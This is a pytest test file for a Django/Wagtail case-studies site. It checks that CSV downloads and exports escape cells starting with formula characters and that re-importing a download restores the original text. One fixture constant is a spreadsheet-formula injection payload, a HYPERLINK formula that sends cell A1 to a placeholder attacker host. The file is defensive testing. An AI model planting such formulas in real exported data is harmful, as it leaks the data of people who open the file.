"""Issue 13 item 3: no CSV the site writes holds a cell a spreadsheet runs as a formula (OWASP's
rule), and the importer undoes exactly that, so a download re-imports unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from django.core.management import call_command

from wagtail.models import Page

from casestudies.factories import CaseStudyPageFactory, CityFactory
from casestudies.imports import prepare
from casestudies.models import CaseStudyPage, ImportedCase
from ops.spreadsheet import FORMULA_START, neutralise, restore

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "1"]), max_size=8))
def test_neutralise_is_exactly_undone_by_restore(value):
    cell = neutralise(value)
    assert not cell.startswith(FORMULA_START)
    assert restore(cell) == value


def test_the_owasp_characters():
    for start in FORMULA_START:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("'=already quoted") == "''=already quoted"
    assert neutralise("'apostrophe") == "'apostrophe"
    assert neutralise("plain = text") == "plain = text"
    assert neutralise(None) is None


@pytest.fixture
def formula_cases(en_index, ko_index):
    city = CityFactory(name="Seoul", name_ko="서울", slug="seoul", country="KR", continent="asia")
    case = CaseStudyPageFactory(
        title=FORMULA,
        slug="formula",
        city=city,
        areas=["quarantine"],
        summary="+1 more test site every week.",
        contact_email="-kim@seoul.example",
    )
    case.body = [("paragraph", "<ul><li>first</li><li>second</li></ul>")]  # Markdown: "- first"
    case.save_revision().publish()
    CaseStudyPageFactory(title="'=quoted on purpose", slug="quoted", city=city, areas=["quarantine"])
    return case


def download(client) -> str:
    response = client.get("/en/data/cases.csv")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_downloads_hold_no_formula(client, formula_cases, opendata_no_ratelimit):
    text = download(client)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    row = next(r for r in rows if r["key"] == "formula")
    assert row["title"] == "'" + FORMULA
    assert row["summary"] == "'+1 more test site every week."
    assert row["body"].startswith("'- first")
    assert next(r for r in rows if r["key"] == "quoted")["title"] == "''=quoted on purpose"


def test_the_export_command_holds_no_formula(formula_cases):
    out = io.StringIO()
    call_command("export_casestudies", "-", stdout=out, stderr=io.StringIO())
    for row in csv.DictReader(io.StringIO(out.getvalue())):
        assert not any(cell.startswith(FORMULA_START) for cell in row.values())
        if row["key"] == "formula":
            assert row["title"] == "'" + FORMULA


def test_a_download_reimports_unchanged(client, formula_cases, opendata_no_ratelimit):
    data = download(client).encode()
    plan = prepare(data, "csv", publish=True)
    assert plan.counts == {"create": 0, "update": 0, "publish": 0, "unchanged": 2}


def test_a_download_imported_into_an_empty_site_gives_the_same_text(
    client, formula_cases, opendata_no_ratelimit, tmp_path
):
    data = download(client).encode()
    before = {
        page.slug: (page.title, page.summary, str(page.body))
        for page in CaseStudyPage.objects.filter(locale__language_code="en")
    }
    for page in CaseStudyPage.objects.all():
        Page.objects.get(pk=page.pk).delete()
    ImportedCase.objects.all().delete()
    path = tmp_path / "download.csv"
    path.write_bytes(data)
    call_command("import_casestudies", str(path), "--publish", stdout=io.StringIO(), stderr=io.StringIO())
    after = {
        page.slug: (page.title, page.summary, str(page.body))
        for page in CaseStudyPage.objects.filter(locale__language_code="en")
    }
    assert after == before
    assert CaseStudyPage.objects.get(slug="formula").title == FORMULA
